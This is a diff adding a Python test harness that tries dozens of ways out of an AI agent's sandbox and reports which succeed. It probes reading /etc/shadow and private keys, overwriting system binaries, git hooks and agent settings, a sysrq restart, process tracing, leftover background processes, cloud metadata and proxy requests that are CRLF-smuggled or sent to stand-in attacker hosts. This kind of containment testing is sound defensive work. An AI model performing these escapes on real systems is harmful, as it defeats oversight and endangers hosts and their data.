@@ -1,0 +1,371 @@
+"""Ways out of a sandbox, as a program that tries them all: FACTS prints one line of JSON a way. It needs nothing but Python's own modules.
+
+FACTS is a file of JSON: what the test has put outside of the sandbox, for the program to reach. A way that leads out prints
+`"out": true`; one that does not prints what it was told.
+"""
+
+import ctypes
+import json
+import os
+import signal
+import socket
+import struct
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+WAYS: dict[str, Callable[[dict[str, str]], None]] = {}
+
+
+class Refused(Exception):
+    """The way does not lead out; says what was told."""
+
+
+def way(name: str) -> Callable[[Callable[[dict[str, str]], None]], Callable[[dict[str, str]], None]]:
+    def add(function: Callable[[dict[str, str]], None]) -> Callable[[dict[str, str]], None]:
+        WAYS[name] = function
+        return function
+
+    return add
+
+
+def reads(name: str, path: Callable[[dict[str, str]], str]) -> None:
+    def read(facts: dict[str, str]) -> None:
+        with open(path(facts), "rb") as file:
+            file.read(1)
+
+    WAYS[name] = read
+
+
+def writes(name: str, path: Callable[[dict[str, str]], str]) -> None:
+    def write(facts: dict[str, str]) -> None:
+        with open(path(facts), "w") as file:
+            file.write("out")
+
+    WAYS[name] = write
+
+
+def libc(name: str, *arguments: object) -> None:
+    library = ctypes.CDLL(None, use_errno=True)
+    if getattr(library, name)(*arguments) == -1:
+        number = ctypes.get_errno()
+        raise OSError(number, os.strerror(number))
+
+
+# Reading
+
+reads("read a private key of the home directory", lambda facts: facts["key"])
+reads("read it by a relative path", lambda facts: os.path.relpath(facts["key"]))
+reads("read it by the root of process 1", lambda facts: f"/proc/1/root{facts['key']}")
+reads(
+    "read it by the working directory of the process",
+    lambda facts: f"/proc/self/cwd/{os.path.relpath(facts['key'])}",
+)
+reads("read turnwire's state", lambda facts: facts["state"])
+reads("read another session's workspace", lambda facts: facts["other"])
+reads("read the passwords of the system", lambda _: "/etc/shadow")
+reads("read the disk", lambda _: "/dev/sda" if os.path.exists("/dev/sda") else "/dev/vda")
+reads("read the memory of the kernel", lambda _: "/proc/kcore")
+
+
+@way("read it by a link in the workspace")
+def _(facts: dict[str, str]) -> None:
+    os.symlink(facts["key"], "link")
+    try:
+        Path("link").read_text()
+    finally:
+        os.unlink("link")
+
+
+@way("read it by a hard link in the workspace")
+def _(facts: dict[str, str]) -> None:
+    os.link(facts["key"], "hard")
+    Path("hard").read_text()
+
+
+@way("read it by an inherited descriptor")
+def _(_: dict[str, str]) -> None:
+    known = [
+        os.readlink(f"/proc/self/fd/{name}")
+        for name in os.listdir("/proc/self/fd")
+        if os.path.exists(f"/proc/self/fd/{name}")
+    ]
+    strange = [
+        one
+        for one in known
+        if not one.startswith(("pipe:", "/dev/null", "socket:", "/proc/")) and "ways_out" not in one
+    ]
+    if not strange:
+        raise Refused("no descriptor leads out")
+
+
+@way("read it by the handle of a file")
+def _(_: dict[str, str]) -> None:
+    handle = struct.pack("Iiq", 8, 1, 2)
+    libc("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
+
+
+# Writing
+
+writes("write a program of the system", lambda _: "/usr/bin/ls")
+writes("write a setting of the system", lambda _: "/etc/profile")
+writes("write a hook of git", lambda _: ".git/hooks/post-checkout")
+writes("write the configuration of git", lambda _: ".git/config")
+writes("write a task of an editor", lambda _: ".vscode/tasks.json")
+writes("write a setting of the agent in the workspace", lambda _: ".claude/settings.json")
+writes("write a setting of the agent in the home directory", lambda facts: facts["settings"])
+writes("write a hook of a repository below the workspace", lambda _: "below/.git/hooks/post-checkout")
+writes("write a setting of the kernel", lambda _: "/proc/sys/kernel/core_pattern")
+writes("restart the machine", lambda _: "/proc/sysrq-trigger")
+writes("write another session's workspace", lambda facts: facts["other"])
+
+
+@way("put another folder in the place of git's")
+def _(_: dict[str, str]) -> None:
+    os.rename(".git", "old")
+
+
+@way("put a link in the place of the hooks")
+def _(_: dict[str, str]) -> None:
+    os.rename(".git/hooks", ".git/old")
+
+
+@way("put a file in the place of git's configuration")
+def _(_: dict[str, str]) -> None:
+    Path(".git/mine").write_text("[core]")
+    os.replace(".git/mine", ".git/config")
+
+
+@way("remove what protects a missing folder")
+def _(_: dict[str, str]) -> None:
+    os.rmdir(".vscode")
+
+
+@way("leave a line in the shell's profile")
+def _(facts: dict[str, str]) -> None:
+    Path(os.path.expanduser("~/.bashrc")).write_text("out")
+    raise Refused("it is the sandbox's own and gone at its end")
+
+
+# Processes and privileges
+
+
+@way("signal a process outside")
+def _(facts: dict[str, str]) -> None:
+    os.kill(int(facts["process"]), signal.SIGUSR1)
+
+
+@way("see a process outside")
+def _(facts: dict[str, str]) -> None:
+    names = [name for name in os.listdir("/proc") if name.isdecimal()]
+    found = [name for name in names if facts["mark"].encode() in Path(f"/proc/{name}/cmdline").read_bytes()]
+    if not found:
+        raise Refused("it is not in /proc")
+
+
+@way("trace a process outside")
+def _(facts: dict[str, str]) -> None:
+    libc("ptrace", 16, int(facts["process"]), 0, 0)
+
+
+@way("read the memory of a process outside")
+def _(facts: dict[str, str]) -> None:
+    Path(f"/proc/{facts['process']}/mem").read_bytes()
+
+
+@way("gain the capabilities of root")
+def _(_: dict[str, str]) -> None:
+    lines = dict(
+        line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line
+    )
+    if int(lines["CapEff"], 16) or int(lines["CapBnd"], 16):
+        return
+    raise Refused("there are none")
+
+
+@way("gain privileges by a setuid program")
+def _(_: dict[str, str]) -> None:
+    if "NoNewPrivs:\t1" in Path("/proc/self/status").read_text():
+        raise Refused("no new privileges")
+
+
+@way("become another user")
+def _(_: dict[str, str]) -> None:
+    os.setuid(4711)
+
+
+@way("mount over a protected folder")
+def _(_: dict[str, str]) -> None:
+    libc("mount", b"none", os.path.abspath(".git").encode(), b"tmpfs", 0, None)
+
+
+@way("unmount what hides a file")
+def _(_: dict[str, str]) -> None:
+    libc("umount2", b"/etc/shadow", 2)
+
+
+@way("make the system writable")
+def _(_: dict[str, str]) -> None:
+    libc("mount", None, b"/usr", None, 32 | 4096, None)
+
+
+@way("make a user namespace")
+def _(_: dict[str, str]) -> None:
+    libc("unshare", 0x10000000)
+
+
+@way("make a mount namespace")
+def _(_: dict[str, str]) -> None:
+    libc("unshare", 0x20000)
+
+
+@way("enter the network of process 1's parent")
+def _(_: dict[str, str]) -> None:
+    ours = os.stat("/proc/self/ns/net")
+    first = os.stat("/proc/1/ns/net")
+    if (ours.st_dev, ours.st_ino) == (first.st_dev, first.st_ino):
+        raise Refused("process 1 is in the sandbox itself")
+    libc("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0)
+
+
+@way("change the root")
+def _(_: dict[str, str]) -> None:
+    os.chroot("/tmp")
+
+
+@way("make a device")
+def _(_: dict[str, str]) -> None:
+    os.mknod("disk", 0o660 | 0o060000, os.makedev(8, 0))
+
+
+@way("type into a terminal")
+def _(_: dict[str, str]) -> None:
+    import fcntl
+
+    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
+
+
+@way("leave a process behind")
+def _(facts: dict[str, str]) -> None:
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            null = os.open(os.devnull, os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(null, fd)
+            os.execv("/bin/sh", ["/bin/sh", "-c", f"sleep 600; : {facts['mark']}-left"])
+        os._exit(0)
+    raise Refused("it is begun, and ends with the sandbox: the test looks")
+
+
+# Networks
+
+
+def connects(name: str, address: Callable[[dict[str, str]], tuple[int, object]]) -> None:
+    def connect(facts: dict[str, str]) -> None:
+        family, where = address(facts)
+        with socket.socket(family, socket.SOCK_STREAM) as one:
+            one.settimeout(2)
+            one.connect(where)  # type: ignore[arg-type]
+
+    WAYS[name] = connect
+
+
+def port_of(facts: dict[str, str]) -> int:
+    return int(facts["port"])
+
+
+connects("reach the hub by 127.0.0.1", lambda facts: (socket.AF_INET, ("127.0.0.1", port_of(facts))))
+connects("reach the hub by 0.0.0.0", lambda facts: (socket.AF_INET, ("0.0.0.0", port_of(facts))))
+connects("reach the hub by [::1]", lambda facts: (socket.AF_INET6, ("::1", port_of(facts))))
+connects(
+    "reach the hub by the mapped address",
+    lambda facts: (socket.AF_INET6, ("::ffff:127.0.0.1", port_of(facts))),
+)
+connects(
+    "reach the hub by an address of this machine",
+    lambda facts: (socket.AF_INET, (facts["address"], port_of(facts))),
+)
+connects("reach an address of the internet", lambda _: (socket.AF_INET, ("1.1.1.1", 443)))
+connects("reach an IPv6 address of the internet", lambda _: (socket.AF_INET6, ("2606:4700:4700::1111", 443)))
+connects("reach the metadata of a cloud", lambda _: (socket.AF_INET, ("169.254.169.254", 80)))
+connects("reach an abstract socket", lambda facts: (socket.AF_UNIX, "\0" + facts["abstract"]))
+connects("reach a socket of the file system", lambda facts: (socket.AF_UNIX, facts["socket"]))
+connects("reach the socket of Docker", lambda _: (socket.AF_UNIX, "/var/run/docker.sock"))
+
+
+@way("ask a name server")
+def _(_: dict[str, str]) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        one.sendto(b"x", ("8.8.8.8", 53))
+
+
+@way("resolve a name")
+def _(_: dict[str, str]) -> None:
+    socket.getaddrinfo("secret.attacker.test", 443)
+
+
+@way("send a raw packet")
+def _(_: dict[str, str]) -> None:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+
+
+@way("listen to all packets")
+def _(_: dict[str, str]) -> None:
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+
+
+@way("reach the machine's host by a virtual socket")
+def _(_: dict[str, str]) -> None:
+    with socket.socket(40, socket.SOCK_STREAM) as one:
+        one.settimeout(2)
+        one.connect((2, 1024))
+
+
+def asks_proxy(name: str, target: Callable[[dict[str, str]], str]) -> None:
+    def ask(facts: dict[str, str]) -> None:
+        with socket.create_connection(("127.0.0.1", 3128), 5) as one:
+            one.sendall(f"CONNECT {target(facts)} HTTP/1.1\r\n\r\n".encode())
+            said = one.makefile("rb").read(4096).decode()
+        if said.startswith("HTTP/1.1 200"):
+            return
+        raise Refused(said.rpartition("\r\n\r\n")[2].strip() or "closed")
+
+    WAYS[name] = ask
+
+
+asks_proxy("have the proxy reach the hub", lambda facts: f"127.0.0.1:{facts['port']}")
+asks_proxy("have the proxy reach it by its name", lambda facts: f"localhost.:{facts['port']}")
+asks_proxy("have the proxy reach it by a short address", lambda facts: f"127.1:{facts['port']}")
+asks_proxy("have the proxy reach it by a number", lambda facts: f"2130706433:{facts['port']}")
+asks_proxy("have the proxy reach it by hexadecimal digits", lambda facts: f"0x7f.0.0.1:{facts['port']}")
+asks_proxy(
+    "have the proxy reach it by the mapped address", lambda facts: f"[::ffff:127.0.0.1]:{facts['port']}"
+)
+asks_proxy("have the proxy reach it by 0.0.0.0", lambda facts: f"0.0.0.0:{facts['port']}")
+asks_proxy("have the proxy reach the metadata of a cloud", lambda _: "169.254.169.254:80")
+asks_proxy("have the proxy reach a private network", lambda _: "10.0.0.1:22")
+asks_proxy("have the proxy reach a host that nobody allows", lambda _: "files.attacker.test:443")
+asks_proxy(
+    "have the proxy take a second line",
+    lambda facts: f"files.attacker.test:443 HTTP/1.1\r\nX: 127.0.0.1:{facts['port']}",
+)
+
+
+def attempt(name: str, facts: dict[str, str]) -> dict[str, object]:
+    try:
+        WAYS[name](facts)
+    except Refused as error:
+        return {"way": name, "out": False, "told": str(error)}
+    except (OSError, subprocess.SubprocessError) as error:
+        path = getattr(error, "filename", None)
+        told = getattr(error, "strerror", None) or str(error)
+        return {"way": name, "out": False, "told": f"{path}: {told}" if path else told}
+    return {"way": name, "out": True, "told": "it leads out"}
+
+
+if __name__ == "__main__":
+    given = json.loads(Path(sys.argv[1]).read_text())
+    for one in WAYS:
+        print(json.dumps(attempt(one, given)), flush=True)
